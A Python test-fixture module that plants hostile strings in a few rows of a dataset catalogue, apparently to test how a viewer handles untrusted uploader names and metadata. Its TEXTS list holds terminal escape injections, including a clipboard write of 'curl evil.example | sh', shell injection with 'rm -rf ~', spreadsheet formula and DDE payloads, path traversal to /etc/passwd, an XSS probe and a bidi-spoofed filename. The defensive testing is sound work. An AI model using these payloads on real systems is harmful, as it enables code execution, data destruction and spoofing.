"""Datasets whose texts would harm a terminal, a table or a file that believes them.

All of it is what an uploader could put into a name, a description or the metadata.
"""

from __future__ import annotations

from typing import Any, Final

_EVERY: Final = 173
_FIRST: Final = 101  # so that the head of the list, which pictures show, is left alone
_ENOUGH: Final = 1_000  # a small catalogue is for tests that want it simple

_ESC, _CSI, _BEL, _ST = "\x1b", "\x9b", "\x07", "\x1b\\"

TEXTS: Final = (
    f"{_ESC}[2J{_ESC}[H cleared your screen",
    f"{_ESC}]0;I am your title now{_BEL}title",
    f"{_ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={_BEL}clipboard",
    f"{_ESC}]8;;http://evil.example/{_ST}click me{_ESC}]8;;{_ST}",
    f"{_ESC}[31;1;5mred and blinking{_ESC}[0m",
    f"{_ESC}[?1049l{_ESC}[?25l left the alternate screen",
    f"{_ESC}[6n{_ESC}[c{_ESC}[5n asks the terminal to type",
    f"{_ESC}P+q544e{_ST}{_ESC}_Ga=T;{_ST} device control",
    f"{_ESC}(0 lqqk line drawing",
    f"{_ESC}c full reset",
    f"{_CSI}2J{_CSI}31m eight-bit controls \x9d0;t\x9c",
    "\x00\x01\x02\x03 first controls \x1a\x1c\x7f",
    "back\b\b\b\b\b\b\b\b\b\bspaced over",
    "carriage\rreturned over the state column",
    "line one\nline two\nline three",
    "tab\tseparated\tname\t",
    "vertical\x0btab and form\x0cfeed",
    "next\x85line, line\u2028separator, paragraph\u2029separator",
    "invoice_\u202egnp.exe",
    "\u202daccepted\u202c \u2067pending\u2069 \u2066rejected\u2069",
    "zero\u200bwidth\u200cjoiners\u200d and\u2060 a \ufeffmark",
    "tags\U000e0041\U000e0042\U000e0043 you cannot see",
    "[bold red]markup[/bold red] and [/] closing nothing",
    "[@click=app.quit()]press here[/]",
    "[@click=app.accept_all]accept all[/@click] [link=http://evil.example]docs[/link]",
    "[[escaped?]] \\[bold] {braces} %s %d $(reboot) `id` ; rm -rf ~",
    "=HYPERLINK(\"http://evil.example\",\"open\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "-rf --help",
    "<script>alert(1)</script> &lt;b&gt;",
    "\"quoted\", 'single', back\\slash, comma, ;",
    "機械腕による積み重ね作業・第四十四回・右手カメラ・再撮影・照明変更後・長い名前の例",
    "로봇 팔이 컵을 쌓는다 كوب أحمر על השולחן",
    "Z̷̢͚̖͉̈́͗͌a̶̧͇̼̓l̸͔̮̑g̵̢̈́o̷̞͂ " + "e\u0301" * 20 + "a" + "\u0300" * 60,
    "👩‍🚀👨‍👩‍👧‍👦🏳️‍🌈🇩🇪🤖✋🏽 family of emoji",
    "ＦＵＬＬ ｗｉｄｔｈ and half ｶﾀｶﾅ",  # noqa: RUF001 - the very point
    "long" * 1_250,
    "wide" + "界" * 2_500,
    "   ",
    "",
    "accepted",
    "...",
)  # fmt: skip


def hostile_rows(size: int) -> range:
    """The rows of a catalogue of this size that are hostile: some forty of seven thousand."""
    return range(_FIRST, size, _EVERY) if size >= _ENOUGH else range(0)


def hostile_number(row: int, size: int) -> int | None:
    """Which of the texts the row has, None for the honest rows (nearly all)."""
    return row // _EVERY % len(TEXTS) if row in hostile_rows(size) else None


def hostile_fields(number: int, metadata: dict[str, Any] | None) -> dict[str, Any]:
    """The fields that replace the honest ones."""
    text = TEXTS[number]
    fields: dict[str, Any] = {"name": text}
    if number % 2:
        fields["description"] = f"{text}\n{TEXTS[(number + 7) % len(TEXTS)]}"
    if number % 3 == 0:
        fields["metadata"] = {
            **(metadata or {}),
            "operator": text,
            text[:200]: "a hostile key",
            "nested": {"deep": {"deeper": [text, {"deepest": text}]}},
            "big": 2**70,
            "tiny": 1e-300,
        }
    return fields
